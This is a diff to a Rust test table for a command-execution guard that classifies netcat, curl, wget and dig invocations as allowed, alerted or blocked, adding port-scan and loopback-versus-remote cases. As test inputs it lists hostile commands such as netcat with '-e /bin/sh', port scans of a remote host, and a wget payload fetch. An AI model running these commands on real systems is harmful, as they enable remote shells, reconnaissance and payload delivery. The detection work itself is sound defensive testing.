@@ -40,6 +40,7 @@ fn cases() -> Vec<Case> {
     let writable_file = Some("execguard.net_util_from_writable_location");
     let sniffer = Some("datadog.network_sniffing_tool");
     let scanner = Some("datadog.network_scanner");
+    let port_scan = Some("execguard.netcat_port_scan");
     let shell_arg = Some("elastic.suspicious_network_tool.shell_argument");
     vec![
         // Ordinary commands.
@@ -140,7 +141,20 @@ fn cases() -> Vec<Case> {
         case("nc from a terminal", exec(NC, "nc 10.0.0.1 4444").interactive(), Block, launch),
         case("nc -z localhost 80 (health check)", exec(NC, "nc -z localhost 80"), Allow, None),
         case("nc -z 127.0.0.1 from a terminal", exec(NC, "nc -z 127.0.0.1 80").interactive(), Allow, None),
-        case("nc -zv to another host is a probe: alerted", exec(NC, "nc -zv 10.0.0.5 22"), Alert, net_util),
+        case("nc -zv to another host is a port scan", exec(NC, "nc -zv 10.0.0.5 22"), Block, port_scan),
+        case("nc -znv 10.0.0.5 is a port scan", exec(NC, "nc -znv 10.0.0.5 1-1024"), Block, port_scan),
+        case("the common self-probe nc -znv 127.0.0.1", exec(NC, "nc -znv 127.0.0.1 8080"), Allow, None),
+        case("a self-probe of ::1", exec(NC, "nc -z -w 1 ::1 8080"), Allow, None),
+        case("a self-probe with a shell is a shell", exec(NC, "nc -z 127.0.0.1 80 -e /bin/sh"), Block, rce),
+        case("localhost as a source address is no destination", exec(NC, "nc -s 127.0.0.1 10.0.0.5 80"), Block, launch),
+        case(
+            "localhost as a proxy user is no destination",
+            exec(NCAT, "ncat --proxy-auth localhost:pw 10.0.0.5 80"),
+            Block,
+            launch,
+        ),
+        case("a remote proxy to localhost", exec(NC, "nc -x 10.0.0.9:1080 localhost 22"), Block, launch),
+        case("localhost.example is not localhost", exec(NC, "nc localhost.example 80"), Block, launch),
         case("nc to a local service", exec(NC, "nc localhost 6379"), Allow, None),
         case(
             "nc started through the dynamic loader",
@@ -185,7 +199,25 @@ fn cases() -> Vec<Case> {
         case("wget", exec("/usr/bin/wget", "wget http://203.0.113.7/payload"), Alert, net_util),
         case("lwp-download", exec("/usr/bin/lwp-download", "lwp-download http://203.0.113.7/x"), Alert, net_util),
         case("dig is alerted, not blocked (Falco lists it)", exec("/usr/bin/dig", "dig example.com"), Alert, net_util),
-        case("dig on localhost", exec("/usr/bin/dig", "dig @127.0.0.1 example.com"), Allow, None),
+        case("dig asking a local server", exec("/usr/bin/dig", "dig @127.0.0.1 example.com"), Allow, None),
+        case("dig localhost asks the resolver", exec("/usr/bin/dig", "dig localhost"), Alert, net_util),
+        case("curl health check on ::1", exec(CURL, "curl -fsS http://[::1]:8080/healthz"), Allow, None),
+        case(
+            "localhost in a header of a remote request",
+            exec_argv(CURL, &["curl", "-H", "Host: localhost", "https://203.0.113.7/x?from=127.0.0.1"]),
+            Alert,
+            net_util,
+        ),
+        case("localhost.example is remote", exec(CURL, "curl http://localhost.example/"), Alert, net_util),
+        case("a remote proxy for localhost", exec(CURL, "curl -x 203.0.113.7:3128 http://localhost/"), Alert, net_util),
+        case(
+            "curl with an option value before the URL",
+            exec(CURL, "curl -s -o /dev/null -w %{http_code} http://localhost/"),
+            Allow,
+            None,
+        ),
+        case("wget -qO- on loopback", exec("/usr/bin/wget", "wget -qO- http://127.0.0.1:8080/ready"), Allow, None),
+        case("Ubuntu's motd", exec(CURL, "curl -s https://motd.ubuntu.com"), Allow, None),
         case("nslookup", exec("/usr/bin/nslookup", "nslookup example.com"), Alert, net_util),
         case("host", exec("/usr/bin/host", "host example.com"), Alert, net_util),
         case(
